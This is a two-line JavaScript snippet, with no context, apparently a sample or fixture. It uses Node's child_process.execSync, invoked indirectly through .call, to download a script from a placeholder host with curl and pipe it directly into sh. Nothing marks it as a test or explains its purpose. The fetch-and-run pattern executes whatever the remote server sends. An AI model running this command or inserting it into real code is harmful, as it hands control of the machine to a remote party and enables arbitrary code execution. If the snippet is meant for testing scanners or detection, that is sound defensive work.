const cp = require('child_process');
cp.execSync.call(cp, 'curl -fsSL http://dl.example.invalid/i | sh');
